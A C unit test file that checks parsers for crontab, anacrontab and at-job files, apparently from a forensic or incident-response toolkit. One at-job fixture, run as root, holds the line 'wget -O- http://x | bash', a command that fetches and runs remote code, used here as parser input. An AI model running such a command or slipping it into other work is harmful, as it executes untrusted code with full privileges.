/* test_cron_parse.c - crontab, anacrontab and at job parsers. */
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <setjmp.h>
#include <stdlib.h>
#include <string.h>
#include <cmocka.h>

#include "cron_parse.h"
#include "irkit/timeutil.h"

static int
parse(const char *line, int sys, struct irk_cron_entry *e)
{
	return irk_cron_parse_line(line, strlen(line), sys, e);
}

static void
test_kinds(void **state)
{
	struct irk_cron_entry e;

	(void)state;
	assert_int_equal(parse("", 1, &e), IRK_CRON_BLANK);
	assert_int_equal(parse("  \t", 1, &e), IRK_CRON_BLANK);
	assert_int_equal(parse("  # m h", 1, &e), IRK_CRON_COMMENT);
	assert_int_equal(parse("MAILTO = \"root\"", 0, &e), IRK_CRON_ENV);
	assert_string_equal(e.env_name, "MAILTO");
	assert_string_equal(e.env_value, "root");
	irk_cron_entry_release(&e);
	assert_int_equal(parse("1 2 3 4 5 root cmd", 1, &e), IRK_CRON_ENTRY);
	assert_string_equal(e.user, "root");
	assert_string_equal(e.command, "cmd");
	assert_string_equal(e.schedule, "1 2 3 4 5");
	irk_cron_entry_release(&e);
	assert_int_equal(parse("1 2 3 4 5 cmd arg", 0, &e), IRK_CRON_ENTRY);
	assert_string_equal(e.command, "cmd arg");
	irk_cron_entry_release(&e);
}

static void
test_bad(void **state)
{
	static const char *const bad[] = {
		"60 * * * * root x", "* 24 * * * root x", "* * 0 * * root x",
		"* * * 13 * root x", "* * * * 8 root x", "* * * * * root",
		"* * * *", "@sometimes root x", "*/0 * * * * root x",
		"1,,2 * * * * root x", "5-1 * * * * root x", "a * * * * r x",
		"1, * * * * root x", "* * * foo * root x",
	};
	struct irk_cron_entry e;
	char big[IRK_CRON_LINE_MAX + 10];

	(void)state;
	for (size_t i = 0; i < sizeof(bad) / sizeof(bad[0]); i++) {
		assert_int_equal(parse(bad[i], 1, &e), IRK_CRON_BAD);
		assert_non_null(e.why);
		irk_cron_entry_release(&e);
	}
	memset(big, 'x', sizeof(big));
	memcpy(big, "* * * * * root ", 15);
	assert_int_equal(irk_cron_parse_line(big, sizeof(big), 1, &e),
	    IRK_CRON_BAD);
	assert_string_equal(e.why, "line too long");
	assert_int_equal(irk_cron_parse_line("* * * * * r \0x", 14, 1, &e),
	    IRK_CRON_BAD);
}

static void
test_percent_and_crlf(void **state)
{
	struct irk_cron_entry e;

	(void)state;
	assert_int_equal(parse("0 0 * * * mail -s 50\\% x%a%b\r", 0, &e),
	    IRK_CRON_ENTRY);
	assert_string_equal(e.command, "mail -s 50% x");
	assert_string_equal(e.input, "a\nb");
	irk_cron_entry_release(&e);
}

static int64_t
at(const char *s)
{
	int64_t us;

	assert_int_equal(irk_time_parse(s, &us), 0);
	return us;
}

static void
expect_next(const char *line, const char *now, const char *want)
{
	struct irk_cron_entry e;
	char t[IRK_TIME_LEN];

	assert_int_equal(parse(line, 0, &e), IRK_CRON_ENTRY);
	assert_string_equal(irk_time_fmt(irk_cron_next_run(&e, at(now)), t),
	    want);
	irk_cron_entry_release(&e);
}

static void
test_next_run(void **state)
{
	struct irk_cron_entry e;

	(void)state;
	expect_next("*/5 * * * * x", "2026-11-21T23:21:30Z",
	    "2026-11-21T23:25:00.000000Z");
	expect_next("0 0 * * * x", "2026-12-31T23:59:00Z",
	    "2027-01-01T00:00:00.000000Z");
	expect_next("@hourly x", "2026-11-21T23:00:00Z",
	    "2026-11-22T00:00:00.000000Z");
	/* 29 February: the next leap year */
	expect_next("0 12 29 2 * x", "2026-03-01T00:00:00Z",
	    "2028-02-29T12:00:00.000000Z");
	/* dom and dow both restricted: either matches (13th or a Friday) */
	expect_next("0 0 13 * 5 x", "2026-11-21T00:00:00Z",
	    "2026-11-27T00:00:00.000000Z");
	/* dow restricted only: Sundays, 7 counts as Sunday */
	expect_next("30 2 * * 7 x", "2026-11-21T00:00:00Z",
	    "2026-11-22T02:30:00.000000Z");
	expect_next("0 9-17/4 * * mon-fri x", "2026-11-20T14:00:00Z",
	    "2026-11-20T17:00:00.000000Z");
	expect_next("0 9-17/4 * * mon-fri x", "2026-11-20T17:30:00Z",
	    "2026-11-23T09:00:00.000000Z");
	/* 31 February never comes */
	assert_int_equal(parse("0 0 31 2 * x", 0, &e), IRK_CRON_ENTRY);
	assert_int_equal(irk_cron_next_run(&e, at("2026-01-01")), -1);
	irk_cron_entry_release(&e);
	assert_int_equal(parse("@reboot x", 0, &e), IRK_CRON_ENTRY);
	assert_int_equal(irk_cron_next_run(&e, at("2026-01-01")), -1);
	irk_cron_entry_release(&e);
}

static void
test_anacron(void **state)
{
	struct irk_anacron_entry e;
	const char *l = "7\t10\tcron.weekly\trun-parts --report /etc/cron.weekly";

	(void)state;
	assert_int_equal(irk_anacron_parse_line(l, strlen(l), &e),
	    IRK_CRON_ENTRY);
	assert_string_equal(e.period, "7");
	assert_string_equal(e.delay, "10");
	assert_string_equal(e.job_id, "cron.weekly");
	assert_string_equal(e.command, "run-parts --report /etc/cron.weekly");
	irk_anacron_entry_release(&e);
	l = "@monthly 15 m cmd";
	assert_int_equal(irk_anacron_parse_line(l, strlen(l), &e),
	    IRK_CRON_ENTRY);
	irk_anacron_entry_release(&e);
	l = "@fortnightly 15 m cmd";
	assert_int_equal(irk_anacron_parse_line(l, strlen(l), &e), IRK_CRON_BAD);
	l = "x 15 m cmd";
	assert_int_equal(irk_anacron_parse_line(l, strlen(l), &e), IRK_CRON_BAD);
	l = "1 5 job";
	assert_int_equal(irk_anacron_parse_line(l, strlen(l), &e), IRK_CRON_BAD);
}

static void
test_at_name(void **state)
{
	char q;
	uint32_t job;
	int64_t t;
	char tb[IRK_TIME_LEN];

	(void)state;
	/* 0x1c8c6d8 minutes = 2026-12-01T10:00:00Z */
	assert_int_equal(irk_at_parse_name("a0000101c8c6d8", &q, &job, &t), 0);
	assert_int_equal(q, 'a');
	assert_int_equal(job, 1);
	assert_string_equal(irk_time_fmt(t, tb), "2026-12-01T10:00:00.000000Z");
	assert_int_equal(irk_at_parse_name(".SEQ", &q, &job, &t), -1);
	assert_int_equal(irk_at_parse_name("a0000101c8c6dg", &q, &job, &t), -1);
	assert_int_equal(irk_at_parse_name("a0000101c8c6d", &q, &job, &t), -1);
	assert_int_equal(irk_at_parse_name("=0000101c8c6d8", &q, &job, &t), -1);
}

static void
test_at_job(void **state)
{
	static const char job1[] =
	    "#!/bin/sh\n# atrun uid=1000 gid=100\n# mail alice 0\numask 22\n"
	    "HOME=/home/alice; export HOME\ncd /home/alice || {\n"
	    "\t echo 'Execution directory inaccessible' >&2\n\t exit 1\n}\n"
	    "\n/usr/bin/id\nrm -f /tmp/x\n\n";
	static const char job2[] =
	    "#!/bin/sh\n# atrun uid=0 gid=0\n# mail root 0\numask 22\n"
	    "cd /root || {\n\t echo 'x' >&2\n\t exit 1\n}\n"
	    "${SHELL:-/bin/sh} << 'marcinDELIMITER1a2b3c4d'\n"
	    "wget -O- http://x | bash\nmarcinDELIMITER1a2b3c4d\n";
	struct irk_at_job j;

	(void)state;
	assert_int_equal(irk_at_parse_job(job1, strlen(job1), &j), 0);
	assert_int_equal(j.uid, 1000);
	assert_int_equal(j.gid, 100);
	assert_string_equal(j.mail_user, "alice");
	assert_string_equal(j.cwd, "/home/alice");
	assert_string_equal(j.commands, "/usr/bin/id\nrm -f /tmp/x");
	irk_at_job_release(&j);
	assert_int_equal(irk_at_parse_job(job2, strlen(job2), &j), 0);
	assert_string_equal(j.commands, "wget -O- http://x | bash");
	irk_at_job_release(&j);
	/* no preamble: everything is kept, and the caller is told */
	assert_int_equal(irk_at_parse_job("echo hi\n", 8, &j), -1);
	assert_string_equal(j.commands, "echo hi");
	irk_at_job_release(&j);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_kinds),
		cmocka_unit_test(test_bad),
		cmocka_unit_test(test_percent_and_crlf),
		cmocka_unit_test(test_next_run),
		cmocka_unit_test(test_anacron),
		cmocka_unit_test(test_at_name),
		cmocka_unit_test(test_at_job),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
